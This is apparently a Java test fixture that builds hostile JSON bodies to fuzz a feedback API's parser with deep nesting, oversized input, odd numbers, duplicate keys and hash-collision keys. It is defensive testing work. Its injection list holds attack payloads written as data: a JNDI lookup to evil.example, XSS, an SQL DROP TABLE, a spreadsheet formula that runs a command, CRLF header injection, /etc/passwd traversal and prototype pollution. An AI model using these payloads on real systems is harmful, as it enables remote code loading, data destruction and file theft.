package io.feedbackplatform.api.feedback;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** More than 300 bodies: too deep, too large, in odd numbers, letters and encodings, or broken. */
public final class HostileBodies {

  /** What none of the answers may repeat in a header. */
  static final String CANARY = "canary-7f3a";

  static final String GOOD = "{\"rating\":5,\"message\":\"" + CANARY + "\",\"metadata\":{\"a\":1}}";

  private final List<HostileBody> bodies = new ArrayList<>();

  private HostileBodies() {}

  public static List<HostileBody> all() {
    var all = new HostileBodies();
    all.depths();
    all.sizes();
    all.numbers();
    all.duplicates();
    all.cut();
    all.injections();
    all.bodies.addAll(HostileTexts.all());
    return List.copyOf(all.bodies);
  }

  private void depths() {
    for (int depth : List.of(1, 2, 18, 19, 20, 21, 100, 1_000, 10_000, 30_000)) {
      var opened = "[".repeat(depth);
      var objects = "{\"a\":".repeat(depth);
      add(depth + " lists", "{\"metadata\":" + opened + "]".repeat(depth) + "}");
      add(depth + " lists, left open", "{\"metadata\":" + opened);
      add(depth + " lists alone", opened + "]".repeat(depth));
      if (depth <= 10_000) {
        add(depth + " objects", "{\"metadata\":" + objects + "1" + "}".repeat(depth) + "}");
        add(depth + " objects, left open", objects);
      }
    }
  }

  private void sizes() {
    for (int size : List.of(5_000, 5_001, 10_000, 20_000, 65_000, 65_536, 65_537, 200_000)) {
      message(size + " letters", "m".repeat(size));
      add(size + " spaces", " ".repeat(size));
      add(size + " spaces before", " ".repeat(size) + GOOD);
      add("a name of " + size, "{\"" + "n".repeat(size) + "\":1}");
      add("a key of " + size, "{\"rating\":5,\"metadata\":{\"" + "k".repeat(size) + "\":1}}");
    }
    for (int entries : List.of(20, 21, 1_000, 4_000, 6_000)) {
      add(entries + " entries", "{\"rating\":5,\"metadata\":{" + entries(entries) + "}}");
      add(entries + " fields", "{" + entries(entries) + "}");
      add(entries + " elements", "[" + "1,".repeat(entries) + "1]");
      add(entries + " empty lists", "{\"message\":[" + "[],".repeat(entries) + "[]]}");
    }
    // Names that share one hash in Java.
    add("colliding names", "{\"rating\":5,\"metadata\":{" + collisions() + "}}");
  }

  private void numbers() {
    for (var number :
        List.of(
            "0",
            "-0",
            "-1",
            "6",
            "05",
            "+5",
            "5.",
            ".5",
            "5e",
            "5e0",
            "5E+0",
            "0x5",
            "0b1",
            "1_0",
            "NaN",
            "Infinity",
            "-Infinity",
            "1e400",
            "-1e400",
            "1e-400",
            "1e999999999",
            "1e-999999999",
            "1e2147483648",
            "1e99999999999999999999",
            "2147483648",
            "9223372036854775808",
            "-9223372036854775809",
            "4.999999999999999999999999",
            "\"5\"",
            "\"5e999999999\"",
            "5 5",
            "٥",
            "５",
            "--5",
            "5-5",
            "1e1e1")) {
      add("rating " + number, "{\"rating\":" + number + "}");
      add("fact " + number, "{\"rating\":5,\"metadata\":{\"n\":" + number + "}}");
    }
    for (int digits : List.of(100, 101, 1_000, 60_000)) {
      add(digits + " digits", "{\"rating\":" + "9".repeat(digits) + "}");
      add(digits + " decimals", "{\"rating\":5,\"metadata\":{\"n\":0." + "1".repeat(digits) + "}}");
    }
  }

  private void duplicates() {
    for (var field : List.of("rating", "message", "name", "email", "page", "locale", "siteId")) {
      add(field + " twice", "{\"" + field + "\":\"a\",\"" + field + "\":\"b\"}");
      add(
          field + " twice, once escaped",
          "{\"%s\":1,\"\\u%04x%s\":1}".formatted(field, (int) field.charAt(0), field.substring(1)));
    }
    add("metadata twice", "{\"rating\":5,\"metadata\":{},\"metadata\":{}}");
    add("a fact twice", "{\"rating\":5,\"metadata\":{\"a\":1,\"a\":1}}");
    add("a fact in two forms", "{\"rating\":5,\"metadata\":{\"\u00E9\":1,\"e\u0301\":2}}");
    for (var tail : List.of("{}", "]", "}", ",", "x", "null", "//", "/**/", "\u0000", "\uFEFF")) {
      add("followed by " + tail, GOOD + tail);
    }
  }

  private void cut() {
    for (int end = 0; end < GOOD.length(); end++) {
      add("cut at " + end, GOOD.substring(0, end));
    }
  }

  private void injections() {
    for (var text :
        List.of(
            "${jndi:ldap://evil.example/a}",
            "#{7*7}",
            "<script>alert(1)</script>",
            "'; DROP TABLE feedback; --",
            "{\\\"$ne\\\":null}",
            "=cmd|' /C calc'!A0",
            "\\r\\nSet-Cookie: a=b",
            "../../etc/passwd",
            "%00",
            "__proto__")) {
      for (var field :
          List.of("message", "name", "email", "category", "page", "locale", "siteId")) {
        add(field + " " + text, "{\"rating\":5,\"" + field + "\":\"" + CANARY + text + "\"}");
      }
      add("field " + text, "{\"rating\":5,\"" + CANARY + text + "\":1}");
      add("key " + text, "{\"rating\":5,\"metadata\":{\"" + text + "\":\"" + CANARY + "\"}}");
    }
    add("a type to make", "{\"@class\":\"java.net.URL\",\"@type\":\"java.net.URL\",\"rating\":5}");
    add("a prototype", "{\"rating\":5,\"__proto__\":{\"rating\":1}}");
  }

  private void message(String what, String text) {
    add(what, "{\"message\":\"" + text + "\"}");
  }

  private void add(String what, String text) {
    bodies.add(HostileBody.of(what, text));
  }

  private static String entries(int count) {
    return IntStream.range(0, count)
        .mapToObj("\"k%d\":1"::formatted)
        .collect(Collectors.joining(","));
  }

  /** "Aa" and "BB" have one hash, and so have all words of as many of them. */
  private static String collisions() {
    return IntStream.range(0, 1 << 11)
        .mapToObj(n ->
            IntStream.range(0, 11)
                .mapToObj(bit -> (n >> bit & 1) == 0 ? "Aa" : "BB")
                .collect(Collectors.joining("", "\"", "\":1")))
        .collect(Collectors.joining(","));
  }
}
